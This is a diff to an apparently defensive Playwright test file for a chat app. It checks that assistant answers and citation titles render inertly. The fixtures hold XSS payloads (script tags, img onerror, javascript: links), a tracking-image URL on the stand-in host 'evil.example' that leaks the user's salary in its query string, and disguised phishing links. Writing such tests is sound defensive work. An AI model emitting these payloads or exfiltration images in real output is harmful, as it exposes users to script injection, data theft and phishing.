@@ -17,15 +17,17 @@ from tests.fake_openai import FakeOpenAI, Message, Reply, Text, file_citation, u
 EVIL = "evil.example"
 TRACKER = f"https://{EVIL}/pixel.png?q=the+user+said+their+salary"
 
-ATTACKS = "\n\n".join([
-    "Before the attacks.",
-    "<script>alert(1)</script>",
-    "<img src=x onerror=alert(1)>",
-    "[click](javascript:alert(1))",
-    f"[tracker]: https://{EVIL}/ref.png\nYour chart: ![chart]({TRACKER}) and a reference one ![logo][tracker]",
-    f"Log in at [https://bank.example/login](https://{EVIL}/login) today.",
-    "After the attacks.",
-])
+ATTACKS = "\n\n".join(
+    [
+        "Before the attacks.",
+        "<script>alert(1)</script>",
+        "<img src=x onerror=alert(1)>",
+        "[click](javascript:alert(1))",
+        f"[tracker]: https://{EVIL}/ref.png\nYour chart: ![chart]({TRACKER}) and a reference one ![logo][tracker]",
+        f"Log in at [https://bank.example/login](https://{EVIL}/login) today.",
+        "After the attacks.",
+    ]
+)
 
 
 def block_evil(page: Page) -> list[str]:
@@ -92,16 +94,21 @@ def test_an_answer_loads_nothing_and_its_links_show_their_host(
     page.screenshot(path=tmp_path / "injection-answer.png", full_page=True)
 
 
-def test_file_names_and_citation_titles_are_inert(
-    page: Page, app_url: str, fake: FakeOpenAI, tmp_path: Path
-) -> None:
+def test_file_names_and_citation_titles_are_inert(page: Page, app_url: str, fake: FakeOpenAI, tmp_path: Path) -> None:
     text = "The report says yes."
-    fake.queue(Reply(Message(text, annotations=(
-        file_citation("file-abc", "<img src=x onerror=alert(2)>report.pdf", len(text)),
-        url_citation("javascript:alert(3)", "<script>alert(4)</script>", 0, 10),
-        url_citation("https://example.com/ok", "[evil](javascript:alert(5))", 0, 10),
-        url_citation(f"https://{EVIL}/phish", "https://bank.example", 0, 10),
-    ))))
+    fake.queue(
+        Reply(
+            Message(
+                text,
+                annotations=(
+                    file_citation("file-abc", "<img src=x onerror=alert(2)>report.pdf", len(text)),
+                    url_citation("javascript:alert(3)", "<script>alert(4)</script>", 0, 10),
+                    url_citation("https://example.com/ok", "[evil](javascript:alert(5))", 0, 10),
+                    url_citation(f"https://{EVIL}/phish", "https://bank.example", 0, 10),
+                ),
+            )
+        )
+    )
     reached = block_evil(page)
     dialogs = ask(page, app_url, "Cite your sources")
     assistant = page.get_by_test_id("stChatMessage").nth(1)
